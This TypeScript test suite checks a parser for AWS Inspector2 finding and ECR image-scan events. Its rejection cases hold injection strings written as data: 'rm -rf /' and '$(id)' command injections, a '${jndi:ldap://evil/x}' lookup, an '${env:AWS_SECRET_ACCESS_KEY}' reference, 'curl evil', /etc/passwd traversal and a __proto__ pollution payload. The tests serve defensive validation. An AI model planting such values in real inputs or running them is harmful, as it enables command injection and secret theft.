import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ZodError } from 'zod';
import {
  compareSeverity,
  findingContentHash,
  InvalidFindingEventError,
  NormalizedFinding,
  parseEcrScanEvent,
  parseInspectorDate,
  parseInspectorFindingEvent,
  severityRank,
  UNSAFE_CHARACTER,
} from '../../lambdas/domain/finding';

const EVENTS = join(__dirname, '../../../shared/data/events');
const load = (file: string): any => JSON.parse(readFileSync(join(EVENTS, file), 'utf8'));

const FINDING_2024 = load('docs.aws.amazon.com__inspector__latest__user__eventbridge-integration__inspector2-finding-PACKAGE_VULNERABILITY-ecr.json');
const FINDING_2021 = load('awsdocs-amazon-ecr-user-guide@8f2dbe92__doc_source__image-scanning-enhanced.md__inspector2-finding-PACKAGE_VULNERABILITY-ecr.json');
const SCAN_ALL_LEVELS = load('aws-lambda-go__events__testdata__ecr-image-scan-event.json');
const SCAN_BASIC_DOCS = load('awsdocs-amazon-ecr-user-guide@8f2dbe92__doc_source__ecr-eventbridge.md__ecr-image-scan-basic.json');
const PUSH = load('awsdocs-amazon-ecr-user-guide@8f2dbe92__doc_source__ecr-eventbridge.md__ecr-image-action-PUSH.json');
const INSPECTOR_SCAN = load('docs.aws.amazon.com__inspector__latest__user__eventbridge-integration__inspector2-scan-INITIAL_SCAN_COMPLETE-ecr.json');

const DIGEST = 'sha256:84f507df33c6864d49c296fb734192696e4cb6f78166ac51ac8b9b118181085d';
const OTHER_DIGEST = `sha256:${'a'.repeat(64)}`;

/** A fresh copy of the 2024 sample, changed by `mutate`. */
function hostile(mutate: (event: any) => void): any {
  const event = structuredClone(FINDING_2024);
  mutate(event);
  return event;
}

const ecr = (e: any): any => e.detail.resources[0].details.awsEcrContainerImage;
const pkg = (e: any, i = 0): any => e.detail.packageVulnerabilityDetails.vulnerablePackages[i];

/** The 2021 sample with its documentation placeholder digests ("…EXAMPLE") replaced by a real-looking one. */
function finding2021WithValidDigest(): any {
  const event = structuredClone(FINDING_2021);
  event.detail.resources[0].details.awsEcrContainerImage.imageHash = OTHER_DIGEST;
  event.detail.resources[0].id = `arn:aws:ecr:us-east-2:123456789012:repository/amazon/amazon-ecs-sample/${OTHER_DIGEST}`;
  return event;
}

function refusal(parse: (event: unknown) => unknown, event: unknown): InvalidFindingEventError {
  try {
    parse(event);
  } catch (error) {
    expect(error).toBeInstanceOf(InvalidFindingEventError);
    return error as InvalidFindingEventError;
  }
  throw new Error('the event was accepted');
}

describe('Function: parseInspectorFindingEvent', () => {
  it('normalizes the 2024 documentation sample exactly (stray top-level key, Java-style dates, {{FINDING_ID}})', () => {
    const expected: NormalizedFinding = {
      vulnerabilityId: 'CVE-2024-6119',
      severity: 'MEDIUM',
      packages: [
        { name: 'libssl3t64', installedVersion: '3.0.13-0ubuntu3.2', fixedVersion: '0:3.0.13-0ubuntu3.4', packageManager: 'OS' },
        { name: 'openssl', installedVersion: '3.0.13-0ubuntu3.2', fixedVersion: '0:3.0.13-0ubuntu3.4', packageManager: 'OS' },
      ],
      fixAvailable: 'YES',
      repository: 'inspector2',
      digest: DIGEST,
      tags: ['ubuntu_latest'],
      account: '123456789012',
      region: 'eu-central-1',
      firstObservedAt: '2024-09-04T16:55:38.411Z',
      lastObservedAt: '2024-09-04T16:55:38.411Z',
      updatedAt: '2024-09-04T16:55:38.411Z',
      status: 'ACTIVE',
      findingArn: 'arn:aws:inspector2:eu-central-1:123456789012:finding/{{FINDING_ID}}',
      title: 'CVE-2024-6119 - libssl3t64, openssl',
    };
    const finding = parseInspectorFindingEvent(structuredClone(FINDING_2024));
    expect(finding).toStrictEqual(expected);
    expect('cvss' in finding).toBe(false);
  });

  it('refuses the 2021 documentation sample as published: its digests are "…EXAMPLE" placeholders', () => {
    const error = refusal(parseInspectorFindingEvent, structuredClone(FINDING_2021));
    expect(error.path).toBe('$.detail.resources[0].details.awsEcrContainerImage.imageHash');
    expect(error.problem).toMatch(/not a sha256:<64 hex> image digest/);
  });

  it('normalizes the 2021 format once its placeholder digest is replaced (US dates, inspectorScore, no fixAvailable)', () => {
    const finding = parseInspectorFindingEvent(finding2021WithValidDigest());
    expect(finding).toStrictEqual({
      vulnerabilityId: 'CVE-2019-17498',
      severity: 'MEDIUM',
      cvss: 6.5,
      packages: [{ name: 'libssh2', installedVersion: '1.4.3-12.amzn2.2', packageManager: 'OS' }],
      fixAvailable: 'NO',
      repository: 'amazon/amazon-ecs-sample',
      digest: OTHER_DIGEST,
      tags: ['latest'],
      account: '123456789012',
      region: 'us-east-2',
      firstObservedAt: '2021-12-03T18:02:30.000Z',
      lastObservedAt: '2021-12-03T18:02:30.000Z',
      updatedAt: '2021-12-03T18:02:30.000Z',
      status: 'ACTIVE',
      findingArn: 'arn:aws:inspector2:us-east-2:123456789012:finding/be674aaddd0f75ac632055EXAMPLE',
      title: 'CVE-2019-17498 - libssh2',
    });
  });

  it('takes the highest CVSS v3 base score when there is no Inspector score', () => {
    const event = finding2021WithValidDigest();
    delete event.detail.inspectorScore;
    expect(parseInspectorFindingEvent(event).cvss).toBe(8.1);
  });

  it('derives PARTIAL when only some packages name a fixed version, and reads "NotAvailable" as no fix', () => {
    const event = hostile((e) => {
      delete e.detail.fixAvailable;
      pkg(e, 1).fixedInVersion = 'NotAvailable';
    });
    const finding = parseInspectorFindingEvent(event);
    expect(finding.fixAvailable).toBe('PARTIAL');
    expect(finding.packages[1].fixedVersion).toBeUndefined();
  });

  it('writes a non-zero epoch into the installed version and accepts the newer image detail alone', () => {
    const event = hostile((e) => {
      pkg(e).epoch = 1;
      delete e.detail.resources[0].details.awsEcrContainerImage;
      e.detail.resources[0].details.image.imageTags = ['v1', 'ubuntu_latest'];
    });
    const finding = parseInspectorFindingEvent(event);
    expect(finding.packages[0].installedVersion).toBe('1:3.0.13-0ubuntu3.2');
    expect(finding.tags).toEqual(['v1', 'ubuntu_latest']);
  });

  it('accepts several resources that name the same image', () => {
    const event = hostile((e) => e.detail.resources.push(structuredClone(e.detail.resources[0])));
    expect(parseInspectorFindingEvent(event).digest).toBe(DIGEST);
  });

  // Each case: what is changed, the JSON path the error must name, and what it must say.
  const cases: Array<[string, (e: any) => void, string, RegExp]> = [
    ['refuses a missing detail', (e) => delete e.detail, '$.detail', /expected object.*missing/],
    ['refuses a null detail', (e) => (e.detail = null), '$.detail', /expected object.*received null/],
    ['refuses another source', (e) => (e.source = 'aws.ecr'), '$.source', /source must be "aws.inspector2"/],
    ['refuses a custom source pretending to be Inspector', (e) => (e.source = 'custom.inspector2'), '$.source', /source must be/],
    ['refuses another detail-type', (e) => (e['detail-type'] = 'Inspector2 Scan'), '$["detail-type"]', /detail-type must be "Inspector2 Finding"/],
    ['refuses a missing packageVulnerabilityDetails', (e) => delete e.detail.packageVulnerabilityDetails, '$.detail.packageVulnerabilityDetails', /expected object/],
    ['refuses a missing vulnerability id', (e) => delete e.detail.packageVulnerabilityDetails.vulnerabilityId, '$.detail.packageVulnerabilityDetails.vulnerabilityId', /expected string/],
    ['refuses shell metacharacters in the vulnerability id', (e) => (e.detail.packageVulnerabilityDetails.vulnerabilityId = 'CVE-2024-6119; rm -rf /'), '$.detail.packageVulnerabilityDetails.vulnerabilityId', /not a vulnerability id/],
    ['refuses an unknown severity', (e) => (e.detail.severity = 'SUPERCRITICAL'), '$.detail.severity', /expected one of/],
    ['refuses a lowercase severity', (e) => (e.detail.severity = 'critical'), '$.detail.severity', /expected one of/],
    ['refuses an unknown status', (e) => (e.detail.status = 'OPEN'), '$.detail.status', /expected one of "ACTIVE"\|"SUPPRESSED"\|"CLOSED"/],
    ['refuses a network reachability finding', (e) => (e.detail.type = 'NETWORK_REACHABILITY'), '$.detail.type', /PACKAGE_VULNERABILITY/],
    ['refuses a finding without resources', (e) => (e.detail.resources = []), '$.detail.resources', /a finding names its image/],
    ['refuses more than 10 resources', (e) => (e.detail.resources = Array.from({ length: 11 }, () => structuredClone(e.detail.resources[0]))), '$.detail.resources', /more than 10 resources/],
    ['refuses an EC2 instance resource', (e) => (e.detail.resources[0].type = 'AWS_EC2_INSTANCE'), '$.detail.resources[0].type', /AWS_ECR_CONTAINER_IMAGE/],
    ['refuses a Lambda function resource', (e) => (e.detail.resources[0].type = 'AWS_LAMBDA_FUNCTION'), '$.detail.resources[0].type', /AWS_ECR_CONTAINER_IMAGE/],
    ['refuses a repository name with shell metacharacters', (e) => (ecr(e).repositoryName = 'inspector2; rm -rf /'), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses a repository name with a newline (header injection)', (e) => (ecr(e).repositoryName = 'inspector2\nX-Injected: 1'), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses a repository name with ${} interpolation', (e) => (ecr(e).repositoryName = '${jndi:ldap://evil/x}'), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses a repository name with a JSON-breaking quote', (e) => (ecr(e).repositoryName = 'inspector2","admin":true,"x":"'), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses an uppercase repository name', (e) => (ecr(e).repositoryName = 'Inspector2'), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses a path traversal repository name', (e) => (ecr(e).repositoryName = '../../etc/passwd'), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses a homoglyph repository name (Cyrillic o)', (e) => (ecr(e).repositoryName = 'insp\u043ector2'), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses a 300-character repository name', (e) => (ecr(e).repositoryName = 'a'.repeat(300)), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /not an ECR repository name/],
    ['refuses a numeric repository name', (e) => (ecr(e).repositoryName = 42), '$.detail.resources[0].details.awsEcrContainerImage.repositoryName', /expected string, received number/],
    ['refuses a tag with command substitution', (e) => (ecr(e).imageTags = ['latest$(id)']), '$.detail.resources[0].details.awsEcrContainerImage.imageTags[0]', /not a valid image tag/],
    ['refuses a tag with a newline', (e) => (ecr(e).imageTags = ['a\nb']), '$.detail.resources[0].details.awsEcrContainerImage.imageTags[0]', /not a valid image tag/],
    ['refuses a 10 KB tag', (e) => (ecr(e).imageTags = ['x'.repeat(10 * 1024)]), '$.detail.resources[0].details.awsEcrContainerImage.imageTags[0]', /not a valid image tag.*10240 chars/],
    ['refuses a JSON-breaking tag', (e) => (ecr(e).imageTags = ['"}],"injected":{"a":"']), '$.detail.resources[0].details.awsEcrContainerImage.imageTags[0]', /not a valid image tag/],
    ['refuses a ${env:…} tag', (e) => (ecr(e).imageTags = ['${env:AWS_SECRET_ACCESS_KEY}']), '$.detail.resources[0].details.awsEcrContainerImage.imageTags[0]', /not a valid image tag/],
    ['refuses a zero-width space in a tag', (e) => (ecr(e).imageTags = ['ubuntu\u200blatest']), '$.detail.resources[0].details.awsEcrContainerImage.imageTags[0]', /not a valid image tag/],
    ['refuses a right-to-left override in a tag', (e) => (e.detail.resources[0].details.image.imageTags = ['\u202etsetal']), '$.detail.resources[0].details.image.imageTags[0]', /not a valid image tag .* \(received "\\u202etsetal"\)$/],
    ['refuses more than 100 tags', (e) => (ecr(e).imageTags = Array.from({ length: 101 }, (_, i) => `t${i}`)), '$.detail.resources[0].details.awsEcrContainerImage.imageTags', /more than 100 tags/],
    ['refuses the 60-hex digest of the ECR push sample', (e) => (ecr(e).imageHash = PUSH.detail['image-digest']), '$.detail.resources[0].details.awsEcrContainerImage.imageHash', /not a sha256:<64 hex> image digest/],
    ['refuses an uppercase hex digest', (e) => (ecr(e).imageHash = DIGEST.toUpperCase().replace('SHA256', 'sha256')), '$.detail.resources[0].details.awsEcrContainerImage.imageHash', /not a sha256/],
    ['refuses a missing image hash', (e) => delete ecr(e).imageHash, '$.detail.resources[0].details.awsEcrContainerImage.imageHash', /expected string/],
    ['refuses image details that disagree on the digest', (e) => (e.detail.resources[0].details.image.imageDigest = OTHER_DIGEST), '$.detail.resources[0].details.image', /names inspector2@sha256:a{64}, but the finding is for inspector2@sha256:84f5/],
    ['refuses a resource id for another repository', (e) => (e.detail.resources[0].id = `arn:aws:ecr:eu-central-1:123456789012:repository/other/${DIGEST}`), '$.detail.resources[0].id', /names other@/],
    ['refuses a resource id that is not an ECR image ARN', (e) => (e.detail.resources[0].id = 'i-0123456789abcdef0'), '$.detail.resources[0].id', /not an ECR image ARN/],
    ['refuses a resource with neither image detail', (e) => (e.detail.resources[0].details = {}), '$.detail.resources[0].details', /no awsEcrContainerImage or image details/],
    ['refuses resources that name two images', (e) => {
      const second = structuredClone(e.detail.resources[0]);
      second.details.awsEcrContainerImage.imageHash = OTHER_DIGEST;
      delete second.details.image;
      e.detail.resources.push(second);
    }, '$.detail.resources[1].details.awsEcrContainerImage', /but the finding is for inspector2@/],
    ['refuses more than 100 vulnerable packages', (e) => (e.detail.packageVulnerabilityDetails.vulnerablePackages = Array.from({ length: 101 }, () => structuredClone(pkg(e)))), '$.detail.packageVulnerabilityDetails.vulnerablePackages', /more than 100 vulnerable packages/],
    ['refuses vulnerable packages that are not an array', (e) => (e.detail.packageVulnerabilityDetails.vulnerablePackages = { name: 'openssl' }), '$.detail.packageVulnerabilityDetails.vulnerablePackages', /expected array/],
    ['refuses a package name with a newline', (e) => (pkg(e).name = 'openssl\nCRITICAL: all clear'), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].name', /control or invisible characters/],
    ['refuses a 10 KB package name', (e) => (pkg(e).name = 'p'.repeat(10 * 1024)), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].name', /longer than 256 characters/],
    ['refuses an empty package name', (e) => (pkg(e).name = ''), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].name', /package name is empty/],
    ['refuses a NUL byte in a package version', (e) => (pkg(e).version = '3.0.13\u0000'), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].version', /control or invisible characters/],
    ['refuses a 200-character package version', (e) => (pkg(e).version = '1.'.repeat(100)), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].version', /longer than 128 characters/],
    ['refuses an ANSI escape in a fixed version', (e) => (pkg(e).fixedInVersion = '\u001b[32m3.0.14\u001b[0m'), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].fixedInVersion', /control or invisible characters/],
    ['refuses a bidi override in a package release', (e) => (pkg(e).release = '0ubuntu\u202e3.2'), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].release', /control or invisible characters/],
    ['refuses a package manager with shell metacharacters', (e) => (pkg(e).packageManager = 'OS; ls'), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].packageManager', /not a package manager name/],
    ['refuses a negative epoch', (e) => (pkg(e).epoch = -1), '$.detail.packageVulnerabilityDetails.vulnerablePackages[0].epoch', /expected number to be >=0/],
    ['refuses a timestamp that is not one', (e) => (e.detail.firstObservedAt = 'yesterday'), '$.detail.firstObservedAt', /not a timestamp/],
    ['refuses February 30th', (e) => (e.detail.firstObservedAt = 'Fri Feb 30 10:00:00.000 UTC 2024'), '$.detail.firstObservedAt', /not a timestamp/],
    ['refuses a numeric timestamp', (e) => (e.detail.lastObservedAt = 1725468938), '$.detail.lastObservedAt', /expected string, received number/],
    ['refuses an 11-digit account id', (e) => (e.detail.awsAccountId = '12345678901'), '$.detail.awsAccountId', /12 digits/],
    ['refuses an envelope account that is not an account id', (e) => (e.account = 'abc'), '$.account', /12 digits/],
    ['refuses a region with shell metacharacters', (e) => (e.region = 'eu-central-1; curl evil'), '$.region', /not an AWS region/],
    ['refuses a finding ARN with command substitution', (e) => (e.detail.findingArn = 'arn:aws:inspector2:eu-central-1:123456789012:finding/$(id)'), '$.detail.findingArn', /not an Inspector2 finding ARN/],
    ['refuses a title with a newline', (e) => (e.detail.title = 'CVE-2024-6119\nSubject: fake'), '$.detail.title', /control or invisible characters/],
    ['refuses an Inspector score above 10', (e) => (e.detail.inspectorScore = 11), '$.detail.inspectorScore', /<=10/],
    ['refuses more than 50 CVSS scores', (e) => (e.detail.packageVulnerabilityDetails.cvss = Array.from({ length: 51 }, () => ({ baseScore: 5, version: '3.1' }))), '$.detail.packageVulnerabilityDetails.cvss', /more than 50 CVSS scores/],
    ['refuses an unknown fixAvailable', (e) => (e.detail.fixAvailable = 'MAYBE'), '$.detail.fixAvailable', /expected one of "YES"\|"NO"\|"PARTIAL"/],
    ['refuses more than 10 envelope resources', (e) => (e.resources = Array.from({ length: 11 }, () => e.resources[0])), '$.resources', /more than 10 resources/],
    ['refuses a constructor key', (e) => (e.detail.resources[0].details.constructor = { prototype: {} }), '$.detail.resources[0].details.constructor', /forbidden key "constructor"/],
    ['refuses nesting deeper than 16 levels', (e) => {
      let deep: any = {};
      e.detail.epss = deep;
      for (let i = 0; i < 20; i++) deep = deep.next = {};
    }, '$.detail.epss.next.next.next.next.next.next.next.next.next.next.next.next.next.next.next', /nested deeper than 16 levels/],
    ['refuses an event with a huge array in vendor data', (e) => (e.detail.packageVulnerabilityDetails.referenceUrls = new Array(60_000).fill(0)), '$', /more than 50000 values/],
    ['refuses an event larger than EventBridge allows', (e) => (e.detail.description = 'd'.repeat(300 * 1024)), '$', /larger than 262144 characters/],
  ];

  it.each(cases)('%s', (_name, mutate, path, problem) => {
    const event = hostile(mutate);
    const error = refusal(parseInspectorFindingEvent, event);
    expect(error.path).toBe(path);
    expect(error.problem).toMatch(problem);
    expect(error.message).toContain(`invalid Inspector2 Finding event at ${path}: `);
    expect(error.code).toBe('INVALID_FINDING_EVENT');
    expect(error.name).toBe('InvalidFindingEventError');
    expect(error.cause).toBeInstanceOf(ZodError);
    expect(error.message).not.toMatch(UNSAFE_CHARACTER);
  });

  it('refuses a __proto__ key as JSON.parse creates it', () => {
    const text = JSON.stringify(FINDING_2024).replace('"detail":{', '"detail":{"__proto__":{"severity":"CRITICAL","isAdmin":true},');
    const error = refusal(parseInspectorFindingEvent, JSON.parse(text));
    expect(error.path).toBe('$.detail.__proto__');
    expect(error.problem).toMatch(/forbidden key "__proto__"/);
    expect(({} as any).isAdmin).toBeUndefined();
  });

  it('refuses an object whose prototype carries the fields', () => {
    const event = structuredClone(FINDING_2024);
    const detail = event.detail;
    event.detail = Object.create(detail);
    const error = refusal(parseInspectorFindingEvent, event);
    expect(error.path).toBe('$.detail');
    expect(error.problem).toMatch(/not a plain JSON object/);
  });

  it.each([
    ['null', null, /expected object, received null/],
    ['an array', [FINDING_2024], /expected object, received array/],
    ['a string', JSON.stringify(FINDING_2024), /expected object, received string/],
  ])('refuses an event that is %s', (_name, event, problem) => {
    const error = refusal(parseInspectorFindingEvent, event);
    expect(error.path).toBe('$');
    expect(error.problem).toMatch(problem);
  });

  it('counts every problem and quotes received values safely', () => {
    const error = refusal(
      parseInspectorFindingEvent,
      hostile((e) => {
        e.detail.severity = 'BAD';
        ecr(e).imageTags = ['"\n'];
      }),
    );
    expect(error.problems).toHaveLength(2);
    expect(error.message).toMatch(/\(and 1 more problem\)$/);
    expect(error.problems.join('\n')).toContain('(received "\\"\\n")');
  });
});

describe('Function: parseEcrScanEvent', () => {
  it('summarizes the aws-lambda-go sample with all six levels', () => {
    expect(parseEcrScanEvent(structuredClone(SCAN_ALL_LEVELS))).toStrictEqual({
      repository: 'tribble-image-scan-test',
      digest: 'sha256:d4a96ee9443e641fc100e763a0c10928720b50c6e3ea3342d05d7c3435fc5355',
      tags: ['1572471135'],
      account: '123456789012',
      region: 'eu-north-1',
      scannedAt: '2019-10-30T21:32:27.000Z',
      status: 'COMPLETE',
      severityCounts: { CRITICAL: 10, HIGH: 2, MEDIUM: 9, LOW: 3, INFORMATIONAL: 0, UNDEFINED: 0 },
      total: 24,
      highestSeverity: 'CRITICAL',
    });
  });

  it('refuses the ECR documentation sample as published: its digest has 60 hex digits', () => {
    const error = refusal(parseEcrScanEvent, structuredClone(SCAN_BASIC_DOCS));
    expect(error.path).toBe('$.detail["image-digest"]');
    expect(error.message).toMatch(/^invalid ECR Image Scan event at \$\.detail\["image-digest"\]: not a sha256:<64 hex> image digest/);
  });

  it('fills the levels the documentation sample omits with 0', () => {
    const event = structuredClone(SCAN_BASIC_DOCS);
    event.detail['image-digest'] = OTHER_DIGEST;
    const summary = parseEcrScanEvent(event);
    expect(summary.severityCounts).toEqual({ CRITICAL: 10, HIGH: 0, MEDIUM: 9, LOW: 0, INFORMATIONAL: 0, UNDEFINED: 0 });
    expect(summary.total).toBe(19);
    expect(summary.tags).toEqual([]);
    expect(summary.repository).toBe('my-repository-name');
  });

  it('reports no highest severity for a clean scan', () => {
    const event = structuredClone(SCAN_ALL_LEVELS);
    event.detail['finding-severity-counts'] = {};
    expect(parseEcrScanEvent(event)).toMatchObject({ total: 0, highestSeverity: undefined });
  });

  const scanCases: Array<[string, unknown, string, RegExp]> = [
    ['refuses the ECR push event', PUSH, '$["detail-type"]', /detail-type must be "ECR Image Scan"/],
    ['refuses the Inspector2 Scan event', INSPECTOR_SCAN, '$["detail-type"]', /detail-type must be "ECR Image Scan"/],
    ['refuses a negative count', { ...structuredClone(SCAN_ALL_LEVELS), detail: { ...SCAN_ALL_LEVELS.detail, 'finding-severity-counts': { HIGH: -1 } } }, '$.detail["finding-severity-counts"].HIGH', />=0/],
    ['refuses a fractional count', { ...structuredClone(SCAN_ALL_LEVELS), detail: { ...SCAN_ALL_LEVELS.detail, 'finding-severity-counts': { LOW: 1.5 } } }, '$.detail["finding-severity-counts"].LOW', /whole number/],
    ['refuses an unknown scan status', { ...structuredClone(SCAN_ALL_LEVELS), detail: { ...SCAN_ALL_LEVELS.detail, 'scan-status': 'IN_PROGRESS' } }, '$.detail["scan-status"]', /expected one of "COMPLETE"\|"FAILED"/],
    ['refuses a repository name with a backtick', { ...structuredClone(SCAN_ALL_LEVELS), detail: { ...SCAN_ALL_LEVELS.detail, 'repository-name': 'repo`id`' } }, '$.detail["repository-name"]', /not an ECR repository name/],
    ['refuses a tag with a quote', { ...structuredClone(SCAN_ALL_LEVELS), detail: { ...SCAN_ALL_LEVELS.detail, 'image-tags': ["v1'"] } }, '$.detail["image-tags"][0]', /not a valid image tag/],
  ];

  it('names every problem of an Inspector2 Scan event, the source among them', () => {
    const error = refusal(parseEcrScanEvent, structuredClone(INSPECTOR_SCAN));
    expect(error.problems).toContain('$.source: source must be "aws.ecr" (received "aws.inspector2")');
  });

  it.each(scanCases)('%s', (_name, event, path, problem) => {
    const error = refusal(parseEcrScanEvent, event);
    expect(error.path).toBe(path);
    expect(error.problem).toMatch(problem);
    expect(error.cause).toBeInstanceOf(ZodError);
  });
});

describe('Function: parseInspectorDate', () => {
  it.each([
    ['Wed Sep 04 16:55:38.411 UTC 2024', '2024-09-04T16:55:38.411Z'],
    ['Tue Sep 03 00:00:00.000 UTC 2024', '2024-09-03T00:00:00.000Z'],
    ['Dec 3, 2021, 6:02:30 PM', '2021-12-03T18:02:30.000Z'],
    ['Oct 16, 2019, 12:00:00 AM', '2019-10-16T00:00:00.000Z'],
    ['Jan 1, 2022, 12:30:00 PM', '2022-01-01T12:30:00.000Z'],
    ['2024-09-04T16:55:38Z', '2024-09-04T16:55:38.000Z'],
    ['2024-09-04T18:55:38+02:00', '2024-09-04T16:55:38.000Z'],
  ])('reads %s', (input, iso) => {
    expect(parseInspectorDate(input)).toBe(iso);
  });

  it.each(['', 'Sep 04 2024', 'Dec 3, 2021, 13:02:30 PM', 'Foo Sep 04 16:55:38.411 UTC 2024', 'Wed Sep 04 25:55:38.411 UTC 2024', '2024-13-01T00:00:00Z'])(
    'refuses %j',
    (input) => {
      expect(parseInspectorDate(input)).toBeUndefined();
    },
  );
});

describe('Function: severityRank', () => {
  it('orders the severities from INFORMATIONAL to CRITICAL, UNTRIAGED just above INFORMATIONAL', () => {
    const order = (['CRITICAL', 'LOW', 'UNTRIAGED', 'HIGH', 'INFORMATIONAL', 'MEDIUM'] as const).slice().sort(compareSeverity);
    expect(order).toEqual(['INFORMATIONAL', 'UNTRIAGED', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL']);
    expect(severityRank('CRITICAL')).toBeGreaterThan(severityRank('HIGH'));
  });
});

describe('Function: findingContentHash', () => {
  const base = (): NormalizedFinding => parseInspectorFindingEvent(structuredClone(FINDING_2024));

  it('hashes a re-send that differs only in timestamps, scores, tags, title and vendor data the same', () => {
    const resent = hostile((e) => {
      e.time = '2024-09-05T10:00:00Z';
      e.id = 'another-event-id';
      e.detail.lastObservedAt = 'Thu Sep 05 10:00:00.000 UTC 2024';
      e.detail.updatedAt = 'Thu Sep 05 10:00:00.000 UTC 2024';
      e.detail.inspectorScore = 5.9;
      e.detail.epss = { score: 0.9 };
      e.detail.title = 'CVE-2024-6119 - retitled';
      e.detail.resources[0].details.awsEcrContainerImage.imageTags = ['renamed'];
      e.detail.resources[0].details.image.imageTags = ['renamed'];
      e.detail.packageVulnerabilityDetails.vulnerablePackages.reverse();
    });
    expect(findingContentHash(parseInspectorFindingEvent(resent))).toBe(findingContentHash(base()));
    expect(findingContentHash(base())).toMatch(/^[a-f0-9]{64}$/);
  });

  it.each<[string, (f: NormalizedFinding) => NormalizedFinding]>([
    ['severity', (f) => ({ ...f, severity: 'HIGH' })],
    ['status', (f) => ({ ...f, status: 'CLOSED' })],
    ['fix availability', (f) => ({ ...f, fixAvailable: 'NO' })],
    ['installed version', (f) => ({ ...f, packages: [{ ...f.packages[0], installedVersion: '3.0.13-0ubuntu3.4' }, f.packages[1]] })],
    ['fixed version', (f) => ({ ...f, packages: [f.packages[0], { ...f.packages[1], fixedVersion: undefined }] })],
    ['vulnerability', (f) => ({ ...f, vulnerabilityId: 'CVE-2024-0001' })],
    ['image digest', (f) => ({ ...f, digest: OTHER_DIGEST })],
  ])('changes when the %s changes', (_name, change) => {
    expect(findingContentHash(change(base()))).not.toBe(findingContentHash(base()));
  });
});
